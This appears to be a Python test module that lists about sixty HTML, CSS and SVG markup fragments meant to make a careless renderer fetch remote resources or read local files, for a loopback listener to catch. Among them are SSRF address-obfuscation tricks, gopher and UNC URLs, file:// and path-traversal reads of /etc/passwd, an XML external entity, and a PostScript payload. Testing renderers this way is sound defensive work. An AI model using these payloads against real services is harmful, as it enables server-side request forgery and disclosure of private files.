"""Sixty-odd pieces of markup that make a careless renderer fetch, embed or read something.

`{web}` is the address of a listener, `{port}` its port. Collected from the faults of renderers that
were published over the years; each is tried alone, in a page and in every field that people fill.
"""

SECRET_FILE = "/etc/passwd"
EPS = "%!PS-Adobe-3.0 EPSF-3.0 %%BoundingBox: 0 0 9 9 (%stdin) (r) file run"

IMAGES = (
    '<img src="{web}/img.png">',
    "<img src='{web}/one.png' alt='x'>",
    '<img src=" \t{web}/space.png">',
    '<img src="HTTP://127.0.0.1:{port}/capitals.png">',
    '<img src="//127.0.0.1:{port}/relative.png">',
    '<base href="{web}/"><img src="based.png">',
    '<input type=image src="{web}/input.png">',
    '<object data="{web}/object.svg" type="image/svg+xml"></object>',
    '<embed src="{web}/embed.svg" type="image/svg+xml">',
    '<video poster="{web}/poster.png" src="{web}/video.mp4"></video>',
    '<iframe src="{web}/frame.html"></iframe>',
    '<picture><source srcset="{web}/set.png"><img src="{web}/fallback.png"></picture>',
)
ADDRESSES = (
    '<img src="http://2130706433:{port}/decimal.png">',
    '<img src="http://0x7f000001:{port}/hexadecimal.png">',
    '<img src="http://0177.0.0.1:{port}/octal.png">',
    '<img src="http://127.1:{port}/short.png">',
    '<img src="http://[::ffff:127.0.0.1]:{port}/mapped.png">',
    '<img src="http://[::ffff:7f00:1]:{port}/mapped-hexadecimal.png">',
    '<img src="http://example.invalid@127.0.0.1:{port}/user.png">',
    '<img src="http://localhost:{port}/name.png">',
    '<img src="http://localhost.:{port}/dot.png">',
    '<img src="{web}/%2e%2e/redirect?to={web}/second.png">',
    '<img src="ftp://127.0.0.1:{port}/file.png">',
    '<img src="gopher://127.0.0.1:{port}/1">',
    '<img src="jar:{web}/archive.jar!/x.png">',
    r'<img src="\\127.0.0.1@{port}\share\x.png">',
)
STYLES = (
    '<link rel="stylesheet" href="{web}/style.css">',
    '<link rel="STYLESHEET" type="text/css" media="print" href="{web}/print.css">',
    '<style>@import "{web}/import.css";</style>',
    "<style>@import url({web}/import-url.css) print;</style>",
    r"<style>@im\70ort u\72l({web}/escaped.css);</style>",
    (
        '<style>@font-face {{ font-family: x; src: url("{web}/f.woff2") }} p {{ font-family: x }}'
        "</style><p>x"
    ),
    '<style>@font-face {{ font-family: y; src: local("y"), url({web}/y.otf) }}</style>',
    "<style>body {{ background: url({web}/background.png) }}</style>x",
    "<style>@page {{ background: url({web}/page.png) }}</style>x",
    "<style>p::before {{ content: url({web}/content.png) }}</style><p>x",
    "<style>li {{ list-style-image: url({web}/bullet.png) }}</style><ul><li>x</ul>",
    "<style>p {{ border: 9px solid; border-image: url({web}/border.png) 1 }}</style><p>x",
    "<style>p {{ background: image-set(url({web}/set.png) 1x) }}</style><p>x",
    "<style>p {{ --u: url({web}/variable.png); background: var(--u) }}</style><p>x",
    "<style>p::after {{ content: attr(data-u url) }}</style><p data-u='{web}/a.png'>x",
    (
        "<style>@counter-style s {{ system: cyclic; symbols: url({web}/s.png) }}"
        "li {{ list-style: s }}</style><ul><li>x</ul>"
    ),
    (
        "<style>@color-profile --c {{ src: url({web}/p.icc) }} p {{ color: color(--c 1 1 1) }}"
        "</style><p>x"
    ),
    '<p style="background-image: url({web}/inline.png)">x',
    "</style></title></textarea></script><img src={web}/closing.png>",
)
VECTORS = (
    '<svg width="9" height="9"><image href="{web}/image.png" width="9" height="9"/></svg>',
    (
        '<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
        '<image xlink:href="{web}/x.png" width="9" height="9"/></svg>'
    ),
    '<svg width="9" height="9"><use href="{web}/symbols.svg#a"/></svg>',
    "<svg width='9' height='9'><style>@import url({web}/svg.css);</style><rect/></svg>",
    "<svg width='9' height='9'><rect fill='url({web}/paint.svg#p)' width='9' height='9'/></svg>",
    '<svg width="9" height="9"><foreignObject><img src="{web}/foreign.png"></foreignObject></svg>',
    (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='9'>"
        "<image href='{web}/n.png' width='9' height='9'/></svg>\">"
    ),
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "{web}/entity">]><svg width="9" height="9"><text>&x;</text>',
    '<?xml-stylesheet href="{web}/instruction.css" type="text/css"?>x',
)
FILES = (
    '<link rel="attachment" href="{web}/attached.txt">',
    '<a rel="attachment" href="{web}/annotation.txt">x</a>',
    f'<link rel="attachment" href="file://{SECRET_FILE}">',
    f'<a rel="attachment" href="file://{SECRET_FILE}">x</a>',
    f'<link rel="attachment" href="file:{SECRET_FILE}?x#y">',
    '<link rel="attachment" href="data:text/plain,secret" title="t">',
    '<a rel="attachment" download="x" href="data:text/plain;base64,c2VjcmV0">x</a>',
    f'<img src="file://{SECRET_FILE}">',
    f'<img src="FILE://localhost{SECRET_FILE}">',
    f'<link rel="stylesheet" href="file://{SECRET_FILE}">',
    f'<style>@import "file://{SECRET_FILE}";</style>',
    '<img src="file:///dev/zero">',
    f'<img src="data:application/postscript,{EPS}">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<link rel="stylesheet" href="data:text/css,@import url({web}/data.css)">',
    '<img src="asset:unknown">',
    f'<img src="asset:../..{SECRET_FILE}">',
)
OTHERS = (
    '<script src="{web}/script.js"></script>',
    '<meta http-equiv="refresh" content="0;url={web}/refresh">',
    '<form action="{web}/form"><input name="a" style="appearance: auto"><button>x</button></form>',
    "<a href=\"javascript:app.launchURL('{web}')\">x</a>",
    '<a href="{web}/link" ping="{web}/ping">x</a>',
    '<html manifest="{web}/manifest" xmlns:x="{web}/ns"><x:include href="{web}/include"/>',
)
FRAGMENTS = (*IMAGES, *ADDRESSES, *STYLES, *VECTORS, *FILES, *OTHERS)


def fragments(port: int) -> list[str]:
    return [text.format(web=f"http://127.0.0.1:{port}", port=port) for text in FRAGMENTS]
